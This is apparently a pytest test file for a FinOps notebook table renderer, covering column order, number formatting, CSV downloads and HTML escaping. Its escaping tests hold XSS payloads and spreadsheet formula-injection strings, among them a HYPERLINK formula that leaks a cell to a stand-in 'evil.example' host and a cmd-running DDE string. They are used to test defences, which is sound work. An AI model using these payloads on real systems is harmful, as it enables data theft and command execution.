"""nb.table lays a table out for a reader: identifying and action columns first, labels in words, money/percent/
dates formatted, rows capped with a CSV of the full table, wide detail folded away so nothing scrolls sideways."""

from __future__ import annotations

import base64
import re
from decimal import Decimal

import pandas as pd
import pytest

import finops_kit.notebook as nb

XSS = "<script>alert(1)</script>"


def _headers(markup: str) -> list[str]:
    """Header labels of the first (main) table."""
    first = markup.split("</table>")[0]
    return re.findall(r"<th [^>]*>([^<]*)</th>", first)


def test_identifying_and_action_columns_first_detail_last_labels_in_words():
    df = pd.DataFrame({"cost": [1.5], "note": ["long words"], "monthly_saving": [2.0], "rows": [3],
                       "team": ["vision"], "ai_cost": [Decimal("4")], "mape": [12.5], "winkler": [3.0]})
    t = nb.table(df, width_px=5000)
    assert _headers(t.markup) == ["Team", "Monthly saving", "Cost", "Rows", "AI cost", "MAPE (%)", "Winkler score",
                                  "Note"]
    # explicit key/action win over the label map; an unknown column is shown in words
    t = nb.table(df.assign(gpu_idle_hours=[1.0]), key=["rows"], action=["note"], width_px=5000)
    assert _headers(t.markup)[:2] == ["Rows", "Note"] and "Gpu idle hours" in _headers(t.markup)


def test_money_percent_and_dates_formatted_from_the_label_map():
    df = pd.DataFrame({"team": ["a"], "monthly_saving": [1234.5], "pct_used": [91.36807],
                       "month": [pd.Timestamp("2026-10-01")], "breach_date": [pd.Timestamp("2026-11-29")],
                       "share": [0.25]})
    html_ = nb.table(df, percent=["share"]).markup
    assert "$1,234.50" in html_ and "91.4%" in html_ and "25.0%" in html_
    assert ">2026-10<" in html_ and ">2026-11-29<" in html_


def test_rows_capped_with_a_note_and_the_full_table_as_csv():
    df = pd.DataFrame({"team": [f"t{i}" for i in range(30)], "cost": [Decimal(i) for i in range(30)]})
    html_ = nb.table(df, max_rows=10, caption="Cost per team").markup
    assert html_.count("<tr") == 1 + 10  # header + 10 rows
    assert "showing the first 10 of 30 rows" in html_
    uri = re.search(r'href="data:text/csv;base64,([^"]+)"', html_).group(1)
    csv_text = base64.b64decode(uri).decode("utf-8")
    assert csv_text.splitlines()[0] == "team,cost" and len(csv_text.splitlines()) == 31 and "t29,29" in csv_text
    assert 'download="cost_per_team.csv"' in html_
    assert "data:text/csv" not in nb.table(df, max_rows=50).markup  # nothing hidden: no link


def test_wide_table_keeps_key_columns_and_folds_the_rest_into_details():
    cols = {"budget": ["Cloud total"], "status": ["on track"]}
    cols.update({f"measure_number_{i}": [123456.789 * i] for i in range(16)})
    df = pd.DataFrame(cols)
    html_ = nb.table(df).markup
    main = _headers(html_)
    assert main[:2] == ["Budget", "Status"] and len(main) < 18
    details = html_[html_.index('<details class="finops-more-columns"'):]
    hidden = re.findall(r"<th [^>]*>([^<]*)</th>", details)
    assert set(main) | set(hidden) == {nb.label(c) for c in df.columns}
    heads = [re.findall(r"<th [^>]*>([^<]*)</th>", t)[0] for t in details.split("<thead>")[1:]]
    assert heads and all(h == "Budget" for h in heads)  # each detail table repeats the identifying column


def test_hostile_values_headers_captions_and_file_names_are_escaped():
    df = pd.DataFrame({XSS: [XSS], "team": ['"><img src=x onerror=alert(1)>'], "cost": [Decimal("1")]})
    df = pd.concat([df] * 3, ignore_index=True)
    html_ = nb.table(df, caption=XSS, max_rows=1).markup
    assert "<script>" not in html_ and "<img" not in html_
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html_
    assert 'download="script_alert_1_script.csv"' in html_
    text = repr(nb.table(df))
    assert XSS in text  # the plain-text form keeps the value as text


def test_unknown_money_column_is_refused():
    with pytest.raises(KeyError):
        nb.table(pd.DataFrame({"a": [1]}), money=["b"])


def test_header_is_one_line_with_the_detail_folded(monkeypatch):
    """The header leaves the first screen to the summary: the reconciliation status in one line, the parameters,
    fingerprint, reconciliation table and versions in a closed <details> (open only when something fails)."""
    import IPython.display

    from finops_kit import scope as S
    from finops_kit.testing import focus_rows

    shown = []
    monkeypatch.setattr(IPython.display, "display", lambda obj, **kw: shown.append((obj, kw)))
    con = focus_rows([dict(day="2026-10-03", cost=5, tags={"team": XSS})])
    sc = S.resolve(con, {"tag_policy": {"keys": {"team": {}}}}, {})
    nb.header(con, XSS, params={"warehouse": XSS}, scope=sc)
    markup = shown[0][0]["text/html"]
    visible, folded = markup.split("<details", 1)
    assert "Reconciliation:" in visible and "<table" not in visible and "<script>" not in markup
    assert folded.startswith(">") or folded.startswith(" >")  # closed: nothing failed
    assert "Parameters" in folded and "&lt;script&gt;" in folded and "Scope:" in folded
    assert shown[0][1]["metadata"] == {nb.META_KEY: "header"}


def test_one_column_name_one_label_that_fits_every_report():
    """``type`` is a violation's kind in the tag audit and a commitment's kind (Reserved Instance, Savings Plan) in
    the commitments report: the one label map must not call it "Violation" (a review found the commitments tables
    headed "Provider | Violation | Name")."""
    page = nb.table(pd.DataFrame({"provider": ["AWS"], "type": ["Reserved Instance"], "name": ["ri-1"]}))._repr_html_()
    assert ">Type<" in page and "Violation" not in page


def _csv_rows(markup: str) -> list[list[str]]:
    import csv
    import io

    uri = re.search(r'href="data:text/csv;base64,([^"]+)"', markup).group(1)
    return list(csv.reader(io.StringIO(base64.b64decode(uri).decode("utf-8"), newline="")))


def test_csv_download_cannot_run_a_formula_in_a_spreadsheet():
    """The tag audit's CSV download held tag values a spreadsheet runs as formulas (``=HYPERLINK(...&A2...)`` sends
    a cell to another site, ``@SUM(...)*cmd|...`` runs a command): every text cell starting with = + - @, tab or CR
    is prefixed with a single quote (OWASP), column names too."""
    hostile = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|x",
               "-2+3", "\tq", "\r=1", "ok", None]
    df = pd.DataFrame({"tag_value": hostile, "=cost": [-12.5, -1.0, 0.0, 2.5, -3.0, 4.0, -5.0, 6.0],
                       "team": pd.Categorical(["=a", "b", "c", "d", "e", "f", "g", "h"]),
                       "rows": pd.array([-1, 2, None, 4, 5, 6, 7, 8], dtype="Int64"),
                       "note": ["-12.5", "+3", "-1e-3", "-", "-x", "a", "b", "c"]})
    rows = _csv_rows(nb.table(df, max_rows=2).markup)
    head, body = rows[0], rows[1:]
    assert sorted(head) == sorted(["tag_value", "team", "'=cost", "rows", "note"])
    col = {h: [r[i] for r in body] for i, h in enumerate(head)}
    assert col["tag_value"] == ["'" + v for v in hostile[:6]] + ["ok", ""]
    assert col["team"][0] == "'=a" and col["team"][1:] == list("bcdefgh")
    # numbers stay numbers: a numeric column's negatives, and a text cell that is only a number
    assert col["'=cost"][:2] == ["-12.5", "-1.0"] and col["rows"][:3] == ["-1", "2", ""]
    assert col["note"] == ["-12.5", "+3", "-1e-3", "'-", "'-x", "a", "b", "c"]
    assert df["tag_value"][0].startswith("=") and "=cost" in df.columns  # the caller's frame is not changed
    assert len(body) == len(df)  # the CR inside a cell is quoted: it starts no row of its own


def test_a_cell_carries_only_what_the_lab_stylesheet_would_decide():
    """The spot report passed the 2,000,000-byte limit (2,002,694 bytes in CI): its tables were 460 kB, mostly the
    same 100-135 characters of style repeated on every cell. The row's border is on the <tr>, wrapping and tabular
    digits on the <tbody> (inherited); a cell keeps its padding, width and alignment."""
    import re

    df = pd.DataFrame({"team": [f"t{i}" for i in range(20)], "cost": [Decimal("1234.5")] * 20})
    html_ = nb.table(df, money=["cost"]).markup
    cells = re.findall(r"<td style=\"([^\"]*)\"", html_)
    assert len(cells) == 40 and max(map(len, cells)) <= 48
    assert 'overflow-wrap:anywhere' in html_.split("<tbody", 1)[1].split(">", 1)[0]
    assert html_.count('<tr style="border-bottom:1px solid #eee">') == 20
    assert set(cells) == {"padding:3px 8px;max-width:320px;text-align:left", "padding:3px 8px;text-align:right"}
